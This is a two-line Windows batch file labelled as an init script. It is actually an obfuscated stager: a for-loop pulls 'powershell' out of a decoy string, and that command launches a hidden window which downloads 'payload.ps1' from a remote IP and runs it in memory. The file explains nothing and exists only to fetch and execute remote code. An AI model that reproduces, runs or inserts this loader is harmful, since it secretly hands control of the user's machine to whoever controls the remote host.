REM init 5298 v4
for /f "tokens=2 delims=#" %%i in ("bvdi#powershell#fkun") do %%i -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/payload.ps1')"
